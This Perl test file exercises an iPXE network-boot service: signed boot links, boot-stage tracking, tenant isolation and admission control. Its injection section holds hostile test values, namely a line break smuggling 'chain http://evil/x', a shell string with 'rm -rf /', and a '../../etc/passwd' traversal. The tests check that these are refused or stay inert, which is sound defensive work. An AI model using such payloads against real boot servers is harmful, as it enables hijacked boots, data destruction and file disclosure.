#!/usr/bin/env perl
# Network boot over HTTP, as an iPXE client sees it (fcgi/api_boot.c,
# fcgi/boot.c, nginx's /boot/ locations): the per-MAC script, its signed
# kernel and initramfs links checked by nginx, boot progress as nodes
# pass each stage, unknown MACs with and without accept_new_nodes,
# boot styles, attribute values that try to break out of the kernel
# line, another tenant's files, and admission control (the script rate,
# the download limits).  Nodes are simulated by requests from their own
# loopback addresses (127.0.4.x); the real PXE boots are t/api/98-pxe.t.
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/../lib";
use Test::More;
use JSON::PP;
use File::Temp qw(tempdir);
use Digest::MD5 qw(md5_base64);
use IO::Socket::IP;
use Corral;
use CorralTest;

# A low script rate and few downloads per address, so admission control
# can be seen without a storm; the rest of the file stays under them.
my $s = Corral->start(env => {
	CORRAL_BOOT_SCRIPT_RATE => '20r/s', CORRAL_BOOT_SCRIPT_BURST => 20,
	CORRAL_BOOT_CONN_PER_CLIENT => 2,
});
my $AT = $s->admin_token;
my $HTTP = 'http://127.0.0.1:' . $s->http_port;
my $tmp = tempdir(CLEANUP => 1);
my $conf = $s->conf_file;

sub slurp { my $f = shift; open my $h, '<:raw', $f or die "$f: $!"; local $/; return <$h> }
sub spew { my ($f, $d) = @_; open my $h, '>:raw', $f or die "$f: $!"; print $h $d; close $h }
sub randbytes { my $n = shift; return join '', map { chr int rand 256 } 1 .. $n }

# The node's script, fetched from its own address over the plain port.
sub script {
	my ($addr, $mac) = @_;
	my ($st, undef, $raw, $h) = $s->call_from($addr, GET => "$HTTP/api/v1/boot/ipxe/$mac");
	return ($st, $raw, $h);
}
# (kernel link, initrd link, kernel arguments) of a script.
sub links {
	my $sc = shift;
	my ($k, $args) = $sc =~ /^kernel (\S+) (.*?) \|\| goto \w+$/m;
	my ($i) = $sc =~ /^initrd (\S+) \|\| goto \w+$/m;
	return ($k, $i, $args);
}
# Lines that are not one of the script's own commands.
my $COMMAND = qr/^(?:#!ipxe|echo corral: |kernel |initrd |boot |sleep \d+$|chain |goto \w+$|:\w+$|exit$|sanboot )/;
sub stray_lines { return grep { !/$COMMAND/ } split /\n/, $_[0] }
# GET or HEAD a URL with curl from addr: (status, body, headers).
sub fetch {
	my ($url, $addr, @opt) = @_;
	my ($out, $hdr) = ("$tmp/out", "$tmp/hdr");
	unlink $out, $hdr;
	open my $p, '-|', 'curl', '-sk', '-o', $out, '-D', $hdr, '-w', '%{http_code}',
	    (defined $addr ? ('--interface', $addr) : ()), @opt, $url or die "curl: $!";
	my $code = <$p> // '';
	close $p;
	return ($code + 0, -e $out ? slurp($out) : '', -e $hdr ? slurp($hdr) : '');
}
sub status_of { return call_data($s, $AT, GET => "/node/$_[0]/status") // {} }
sub stage_is {
	my ($node, $want, $name) = @_;
	my $st = wait_for(10, sub { my $x = status_of($node); ($x->{boot_stage} // '') eq $want ? $x : undef })
	    // status_of($node);
	is($st->{boot_stage}, $want, $name) or diag(explain $st);
	return $st;
}
# A boot link signed as nginx checks it, with the head's secret.
my $SECRET = slurp($s->home . '/boot-link.secret');
$SECRET =~ s/\s+$//;
sub signed {
	my ($mac, $sha, $name, $expires) = @_;
	(my $m = $mac) =~ tr/:/-/;
	my $path = "/boot/file/$m/$sha/$name";
	(my $sig = md5_base64("$expires$path $SECRET")) =~ tr{+/}{-_};
	return "$HTTP$path?e=$expires&s=$sig";
}

# ---------------------------------------------------------------- set-up
my ($K, $I) = (randbytes(200_000), randbytes(300_000));
spew("$tmp/k", $K);
spew("$tmp/i", $I);
must_call($s, $AT, POST => '/bootconfigs', { name => 'b1',
    cmdline => 'console=ttyS0 rack=<rack> head=<corral_head>' });
for my $f ([kernel => 'k'], [initramfs => 'i']) {
	my ($st) = fetch($s->url . "/bootconfig/b1/$f->[0]", undef, '-X', 'PUT', '-T', "$tmp/$f->[1]",
	    '-H', "Authorization: Bearer $AT");
	is($st, 200, "uploaded b1's $f->[0]");
}
my $b1 = must_call($s, $AT, GET => '/bootconfig/b1');
my ($KSHA, $ISHA) = ($b1->{kernel}{sha256}, $b1->{initramfs}{sha256});
like($KSHA, qr/^[0-9a-f]{64}$/, "b1's kernel has a SHA-256");
must_call($s, $AT, POST => '/attribs', { name => 'compute',
    attributes => { _boot_config => 'b1', corral_head => $HTTP, rack => 'r0' } });
must_call($s, $AT, POST => '/nodes', [
	{ mac => '52:54:00:04:00:01', ip => '127.0.4.1', groups => ['compute'], attributes => { rack => 'r1' } },
	{ mac => '52:54:00:04:00:02', ip => '127.0.4.2', groups => ['compute'], attributes => { rack => 'r2' } },
]);
my %n = map { $_->{mac} => $_ } map { must_call($s, $AT, GET => "/node/$_") } qw(52:54:00:04:00:01 52:54:00:04:00:02);
my ($n1, $n2) = map { $n{$_}{name} } qw(52:54:00:04:00:01 52:54:00:04:00:02);

# ---------------------------------------------------------------- the script
my ($st, $sc, $h) = script('127.0.4.1', '52-54-00-04-00-01');
is($st, 200, 'script: 200');
like($h->{'content-type'}, qr{^text/plain}, 'script: text/plain');
like($sc, qr/^#!ipxe\n/, 'script: starts #!ipxe');
my ($klink, $ilink, $args) = links($sc);
ok($klink && $ilink, 'script: a kernel and an initrd line') or diag($sc);
like($klink, qr{^\Q$HTTP\E/boot/file/52-54-00-04-00-01/$KSHA/vmlinuz\?e=\d+&s=[A-Za-z0-9_-]{22}$}, 'kernel link: this node, this file, signed');
like($ilink, qr{^\Q$HTTP\E/boot/file/52-54-00-04-00-01/$ISHA/initrd\.img\?e=\d+&s=}, 'initrd link: this node, this file, signed');
my ($exp) = $klink =~ /e=(\d+)/;
ok($exp > time + 60 && $exp <= time + 900 + 5, 'links expire in [boot] link_ttl (900 s)');
like($args, qr/^initrd=initrd\.img corral\.boot_style=rwram console=ttyS0 rack=r1 head=\Q$HTTP\E$/,
    'kernel arguments: initrd=, the style, the cmdline with the node\'s attributes substituted');
like($sc, qr/^boot \|\| goto retry$/m, 'script: boots');
is(scalar(() = $sc =~ /^kernel \Q$klink\E /mg), 4, 'script: a refused kernel download is tried 4 times, the same link');
like($sc, qr/^:kernel2\nsleep \d+\nkernel /m, '... a sleep apart');
is(scalar(() = $sc =~ /^initrd \Q$ilink\E /mg), 4, 'script: the initrd too');
like($sc, qr/^kernel .* \|\| goto retry\n:initrd1$/m, 'script: the last kernel try goes to retry');
like($sc, qr/^:retry\n(?:.*\n)*sleep \d+\nchain --replace --autofree \Q$HTTP\E\/api\/v1\/boot\/ipxe\/52:54:00:04:00:01$/m,
    'script: then it sleeps and asks for a fresh script');
is_deeply([stray_lines($sc)], [], 'script: nothing but its own commands');
my %labels = map { $_ => 1 } $sc =~ /^:(\w+)$/mg;
is_deeply([grep { !$labels{$_} } $sc =~ /\bgoto (\w+)/g], [], 'script: every goto has its label');
my ($st2, $sc2) = script('127.0.4.2', '52:54:00:04:00:02');
like((links($sc2))[2], qr/rack=r2 /, "another node's script has its own attribute values");
unlike($sc2, qr/52-54-00-04-00-01|rack=r1/, "... and nothing of the first node's");

($st, $sc) = script('127.0.4.1', 'zz:54:00:04:00:01');
is($st, 400, 'a MAC that is not one: 400');
($st, $sc) = script('127.0.4.1', '52:54:00:04:00:01/../x');
isnt($st, 200, 'a path that is not a MAC: refused');

# ---------------------------------------------------------------- the files by signed link
my ($fst, $body, $hdr) = fetch($klink, '127.0.4.1');
is($fst, 200, 'kernel by signed link: 200');
ok($body eq $K, 'kernel by signed link: byte for byte the upload');
like($hdr, qr/^etag: "$KSHA"/mi, 'kernel: the ETag is the SHA-256');
($fst, $body, $hdr) = fetch($klink, '127.0.4.1', '-I');
is($fst, 200, 'HEAD of the kernel link: 200');
like($hdr, qr/^content-length: 200000\r?$/mi, 'HEAD: the length');
($fst, $body) = fetch($klink, '127.0.4.1', '-r', '100-199');
is($fst, 206, 'Range: 206');
ok($body eq substr($K, 100, 100), 'Range: those bytes');
($fst, $body) = fetch($ilink, '127.0.4.1');
ok($fst == 200 && $body eq $I, 'initramfs by signed link, byte for byte');

# Refused by nginx: altered, expired, another MAC, another file, no signature.
(my $bad = $klink) =~ s/s=(.)/'s=' . ($1 eq 'A' ? 'B' : 'A')/e;
is((fetch($bad))[0], 403, 'an altered signature: 403');
(my $later = $klink) =~ s/e=(\d+)/'e=' . ($1 + 3600)/e;
is((fetch($later))[0], 403, 'a later expiry: 403');
(my $other = $klink) =~ s/52-54-00-04-00-01/52-54-00-04-00-02/;
is((fetch($other))[0], 403, "the link with another node's MAC: 403");
(my $swap = $klink) =~ s/$KSHA/$ISHA/;
is((fetch($swap))[0], 403, 'the link with another file: 403');
(my $bare = $klink) =~ s/\?.*//;
is((fetch($bare))[0], 403, 'no signature: 403');
is((fetch(signed('52:54:00:04:00:01', $KSHA, 'vmlinuz', time + 60)))[0], 200,
    'a link signed with the secret as nginx checks it: 200 (the test signs right)');
is((fetch(signed('52:54:00:04:00:01', $KSHA, 'vmlinuz', time - 10)))[0], 403,
    'the same, expired: 403');
is((fetch("$HTTP/_files/" . substr($KSHA, 0, 2) . "/$KSHA"))[0], 404,
    'the store by content address: 404 (internal only)');

# iPXE itself for UEFI HTTP-boot clients, straight from Debian's ipxe.
SKIP: {
	skip 'no /usr/lib/ipxe/ipxe.efi (package ipxe)', 2 unless -r '/usr/lib/ipxe/ipxe.efi';
	my ($bst, $bin) = fetch("$HTTP/boot/bin/ipxe.efi");
	is($bst, 200, '/boot/bin/ipxe.efi: 200');
	ok($bin eq slurp('/usr/lib/ipxe/ipxe.efi'), '/boot/bin/ipxe.efi: the package\'s file');
}
is((fetch("$HTTP/boot/bin/../../etc/passwd"))[0] == 200 ? 'leak' : 'ok', 'ok', '/boot/bin/ does not leave its directory');

# ---------------------------------------------------------------- boot progress
my $p = stage_is($n1, 'initramfs', 'after the downloads the stage is initramfs (nginx -> jobd)');
ok($p->{boot_stages}{script} && $p->{boot_stages}{kernel} && $p->{boot_stages}{initramfs},
    'boot_stages: script, kernel and initramfs, each with a time') or diag(explain $p);
ok($p->{boot_stages}{script} <= $p->{boot_stages}{kernel}, 'script before kernel');
ok(abs($p->{boot_time} - time) < 60, 'boot_time is now');
($st) = $s->call_from('127.0.4.1', PUT => '/node/putstatus', { status => { state => 'up' } });
is($st, 200, 'the booted node reports from its address');
$p = stage_is($n1, 'status', 'its first report is the status stage');
is($p->{state}, 'up', 'status: what it reported, beside the boot stages');
my $first = $p->{boot_stages}{status};
sleep 1;
$s->call_from('127.0.4.1', PUT => '/node/putstatus', { status => { state => 'up', load => 1 } });
is(status_of($n1)->{boot_stages}{status}, $first, 'later reports do not move the status stage');

# DHCP, as dnsmasq's dhcp-script reports it through corral-jobd.
my $jobd = Corral::builddir() . '/corral-jobd';
is(system($jobd, '-c', $conf, 'boot-event', 'dhcp', 'add', '52:54:00:04:00:01', '127.0.4.1'), 0,
    'corral-jobd boot-event dhcp add: exit 0');
$p = stage_is($n1, 'dhcp', 'a DHCP lease after the node was up starts a new boot');
is_deeply([sort keys %{$p->{boot_stages}}], ['dhcp'], '... with only its dhcp stage');
script('127.0.4.1', '52:54:00:04:00:01');
$p = stage_is($n1, 'script', 'then its script');
is_deeply([sort keys %{$p->{boot_stages}}], [qw(dhcp script)], '... in the same boot');
system($jobd, '-c', $conf, 'boot-event', 'dhcp', 'old', '52:54:00:04:00:01', '127.0.4.1');
sleep 1;
is(status_of($n1)->{boot_stage}, 'script', 'a lease renewed mid-boot (the initramfs asking) changes nothing');
is(system($jobd, '-c', $conf, 'boot-event', 'dhcp', 'add', 'not-a-mac', 'x'), 0,
    'boot-event with junk: exit 0, nothing sent');

# Selectors see the stage.
must_call($s, $AT, POST => '/dyngroups', { name => 'booting', selector => 's[boot_stage] == script' });
is_deeply([sort @{call_data($s, $AT, GET => '/dyngroup/booting/nodes') // []}],
    [sort map { $_->{uid} } values %n], 's[boot_stage] selects the nodes at that stage (both asked for their script)');
must_call($s, $AT, PATCH => '/dyngroup/booting', { selector => 's[boot_stage] == status' });
is_deeply(call_data($s, $AT, GET => '/dyngroup/booting/nodes'), [], '... and none at a stage no node is at');

# ---------------------------------------------------------------- what is not bootable yet
sub waits {
	my ($addr, $mac, $re, $name) = @_;
	my ($st, $sc) = script($addr, $mac);
	is($st, 200, "$name: 200 (a script, never an error)");
	like($sc, qr/^echo corral: .*$re/m, "$name: says why") or diag($sc);
	like($sc, qr/^sleep \d+\nchain --replace --autofree \Q$HTTP\E\/api\/v1\/boot\/ipxe\/\Q$mac\E$/m,
	    "$name: sleeps and asks again");
	unlike($sc, qr/^kernel /m, "$name: boots nothing");
}
must_call($s, $AT, POST => '/nodes', { mac => '52:54:00:04:00:03', ip => '127.0.4.3' });
waits('127.0.4.3', '52:54:00:04:00:03', qr/no _boot_config/, 'a node without _boot_config');
must_call($s, $AT, PATCH => '/node/52:54:00:04:00:03', { attributes => { _boot_config => 'nosuch' } });
waits('127.0.4.3', '52:54:00:04:00:03', qr/names no boot config/, 'a _boot_config naming nothing');
must_call($s, $AT, POST => '/bootconfigs', { name => 'empty' });
must_call($s, $AT, PATCH => '/node/52:54:00:04:00:03', { attributes => { _boot_config => 'empty' } });
waits('127.0.4.3', '52:54:00:04:00:03', qr/no kernel or initramfs/, 'a boot config without files');

# Boot styles.
my %style = (next => qr/^exit$/m, disked => qr/^sanboot --no-describe --drive 0x80 \|\| exit$/m);
for my $bs (sort keys %style) {
	must_call($s, $AT, PATCH => '/bootconfig/empty', { boot_style => $bs });
	($st, $sc) = script('127.0.4.3', '52:54:00:04:00:03');
	like($sc, $style{$bs}, "boot_style $bs");
	unlike($sc, qr/^kernel /m, "boot_style $bs: no kernel");
}
must_call($s, $AT, PATCH => '/bootconfig/empty', { boot_style => 'iscsi' });
waits('127.0.4.3', '52:54:00:04:00:03', qr/boot_style iscsi is not supported/, 'boot_style iscsi');

# ---------------------------------------------------------------- values that try to leave their line
my %inject = (
	newline => ["r1\nchain http://evil/x", undef],
	cr      => ["r1\rshell", undef],
	shebang => ['#!ipxe', 'rack=#!ipxe '],
	nested  => ['<corral_head>', 'rack=<corral_head> '],
	shell   => ['$(reboot); rm -rf / `id` | x && y', 'rack=$(reboot); rm -rf / `id` | x && y '],
);
for my $case (sort keys %inject) {
	my ($v, $want) = @{$inject{$case}};
	must_call($s, $AT, PATCH => '/node/52:54:00:04:00:02', { attributes => { rack => $v } });
	($st, $sc) = script('127.0.4.2', '52:54:00:04:00:02');
	is($st, 200, "attribute value ($case): 200");
	if (defined $want) {
		my ($k, $i, $a) = links($sc);
		like($a // '', qr/\Q$want\E/, "attribute value ($case): inserted verbatim, once");
		is_deeply([stray_lines($sc)], [], "attribute value ($case): no line of its own");
		unlike($sc, qr/^chain http:\/\/evil/m, "attribute value ($case): no line of its own");
	} else {
		unlike($sc, qr/^kernel /m, "attribute value ($case): not booted");
		unlike($sc, qr/evil|^shell/m, "attribute value ($case): nothing of it reaches the script");
		like($sc, qr/^echo corral: .*attribute rack holds a line break/m, "attribute value ($case): says which attribute");
	}
}
must_call($s, $AT, PATCH => '/node/52:54:00:04:00:02', { attributes => { rack => 'r2' } });
my ($cst) = $s->call(PATCH => '/bootconfig/b1', { cmdline => "console=ttyS0\nchain http://evil/" }, $AT);
is($cst, 400, 'a cmdline with a line break of its own is refused when stored');

# ---------------------------------------------------------------- unknown MACs
my $nodes_before = $s->sql("SELECT COUNT(*) FROM objects WHERE class = 'node'");
waits('127.0.4.9', '52:54:00:04:00:09', qr/unknown MAC address/, 'an unknown MAC');
is($s->sql("SELECT COUNT(*) FROM objects WHERE class = 'node'"), $nodes_before, '... registers nothing');
must_call($s, $AT, PATCH => '/cluster', { accept_new_nodes => JSON::PP::true, default_group => 'compute' });
($st, $sc) = script('127.0.4.9', '52:54:00:04:00:09');
my $new = call_data($s, $AT, GET => '/node/52:54:00:04:00:09');
ok($new && $new->{uid}, 'accept_new_nodes: the unknown MAC is registered');
like($sc, qr/^kernel \S+\/52-54-00-04-00-09\/$KSHA\/vmlinuz/m, '... and boots the default group\'s boot config at once');
is(status_of('52:54:00:04:00:09')->{boot_stage}, 'script', '... its boot progress starts');
($st, $sc) = script('127.0.4.9', '52:54:00:04:00:09');
is($s->sql("SELECT COUNT(*) FROM objects WHERE class = 'node'"), $nodes_before + 1, 'asking again registers nothing more');
must_call($s, $AT, PATCH => '/cluster', { accept_new_nodes => JSON::PP::false });

# ---------------------------------------------------------------- another tenant
# Tenant B's node boots B's boot config; its links name B's files only,
# and no link of A's node reaches B's file, nor the reverse.
$s->sql("INSERT INTO tenants (uid, name) VALUES (LOWER(HEX(RANDOM_BYTES(16))), 'tenant2')");
my $BT = make_admin($s, $AT, 't2cfg', ['role.configadmin'], 'tenant2');
my $KB = randbytes(100_000);
spew("$tmp/kb", $KB);
must_call($s, $BT, POST => '/bootconfigs', { name => 'b1', cmdline => 'tenant=b' });
for my $f ([kernel => 'kb'], [initramfs => 'i']) {
	my ($st) = fetch($s->url . "/bootconfig/b1/$f->[0]", undef, '-X', 'PUT', '-T', "$tmp/$f->[1]",
	    '-H', "Authorization: Bearer $BT");
	is($st, 200, "tenant2 uploaded its b1's $f->[0]");
}
my $KBSHA = must_call($s, $BT, GET => '/bootconfig/b1')->{kernel}{sha256};
# Its node comes through a tenancy; tenant2 picks its boot config itself.
must_call($s, $AT, POST => '/nodes', { mac => '52:54:00:04:00:b1', ip => '127.0.4.11' });
lease_nodes($s, $AT, 'tenant2', '52:54:00:04:00:b1');
must_call($s, $BT, PATCH => '/node/52:54:00:04:00:b1/attributes', { _boot_config => 'b1' });
($st, $sc) = script('127.0.4.11', '52:54:00:04:00:b1');
my ($kb) = links($sc);
like($kb, qr{/52-54-00-04-00-b1/$KBSHA/vmlinuz\?}, "tenant2's node gets its own tenant's b1 (same name as A's)");
like($sc, qr/tenant=b/, "... with its own cmdline");
ok((fetch($kb, '127.0.4.11'))[1] eq $KB, "... and its kernel");
(my $steal = $klink) =~ s/$KSHA/$KBSHA/;
is((fetch($steal, '127.0.4.1'))[0], 403, "A's node cannot turn its link into B's kernel");
($steal = $kb) =~ s/$KBSHA/$KSHA/;
is((fetch($steal, '127.0.4.11'))[0], 403, "B's node cannot turn its link into A's kernel");
($steal = $kb) =~ s/52-54-00-04-00-b1/52-54-00-04-00-01/;
is((fetch($steal, '127.0.4.1'))[0], 403, "nor A's node use B's link as its own");
my ($gst) = $s->call(GET => "/node/$n{'52:54:00:04:00:01'}{uid}/status", undef, $BT);
is($gst, 404, "tenant2's admin cannot see A's node's boot progress");

# ---------------------------------------------------------------- admission control
# The script rate (20/s, burst 20 here): 80 nodes at once; those beyond
# it get nginx's wait script, never an error.
# The children wait at a pipe, so all 80 ask within a few milliseconds.
my @kids;
pipe(my $gate_r, my $gate_w) or die "pipe: $!";
for my $i (1 .. 80) {
	my $pid = fork // die "fork: $!";
	if (!$pid) {
		close $gate_w;
		my $x = <$gate_r>;
		my ($st, $raw) = script(sprintf('127.0.5.%d', $i), sprintf('52:54:00:05:00:%02x', $i));
		my $kind = $st != 200 ? "error $st" : $raw =~ /the head is busy/ ? 'busy' :
		    $raw =~ /unknown MAC/ ? 'served' : 'other';
		spew("$tmp/adm.$i", $kind . ($raw =~ /^sleep (\d+)$/m ? " $1" : ''));
		exit 0;
	}
	push @kids, $pid;
}
close $gate_r;
sleep 1;
close $gate_w;
waitpid $_, 0 for @kids;
my @kinds = map { slurp("$tmp/adm.$_") } 1 .. 80;
is(scalar(grep { /^error/ || /^other/ } @kinds), 0, 'a script storm: no node got an error') or diag(explain \@kinds);
ok(scalar(grep { /^busy/ } @kinds) >= 10, 'beyond the rate, nodes are told to wait (' .
    scalar(grep { /^busy/ } @kinds) . ' of 80)');
ok(scalar(grep { /^served/ } @kinds) >= 20, 'the burst is served (' . scalar(grep { /^served/ } @kinds) . ')');
my %sleeps = map { /^busy (\d+)/ ? ($1 => 1) : () } @kinds;
ok(!grep({ $_ < 5 || $_ > 20 } keys %sleeps), 'waits are 5 to 20 s');
ok(keys %sleeps >= 3, 'waits are jittered (' . join(',', sort { $a <=> $b } keys %sleeps) . ')');
my ($bst, undef, $busy) = script('127.0.5.1', '52:54:00:05:00:01');
sleep 2;	# the bucket refills

# Downloads at once per address (2 here): two readers that do not read
# hold their connections; the third from that address is refused with a
# 503 (the script's retry), another address is not.
my $big = randbytes(1 << 20) x 24;
spew("$tmp/big", $big);
must_call($s, $AT, POST => '/bootconfigs', { name => 'big', cmdline => '' });
for my $f (qw(kernel initramfs)) {
	my ($st) = fetch($s->url . "/bootconfig/big/$f", undef, '-X', 'PUT', '-T', "$tmp/big",
	    '-H', "Authorization: Bearer $AT");
	is($st, 200, "uploaded a 24 MiB $f");
}
must_call($s, $AT, PATCH => '/node/52:54:00:04:00:02', { attributes => { _boot_config => 'big' } });
($st, $sc) = script('127.0.4.2', '52:54:00:04:00:02');
my ($bigk) = links($sc);
my ($path) = $bigk =~ m{^http://[^/]+(/.*)$};
my @held;
for (1 .. 2) {
	my $c = IO::Socket::IP->new(PeerHost => '127.0.0.1', PeerPort => $s->http_port,
	    LocalHost => '127.0.4.2') or die "connect: $!";
	print $c "GET $path HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
	push @held, $c;
}
sleep 1;
is((fetch($bigk, '127.0.4.2', '--max-time', '5'))[0], 503, 'a third download at once from one address: 503');
($st, $sc) = script('127.0.4.1', '52:54:00:04:00:01');
my ($k1) = links($sc);
is((fetch($k1, '127.0.4.1'))[0], 200, "another address's download meanwhile: 200");
close $_ for @held;
sleep 1;
my ($okst, $okbody) = fetch($bigk, '127.0.4.2');
ok($okst == 200 && length($okbody) == length($big), 'once they are done, the address downloads again');

done_testing;
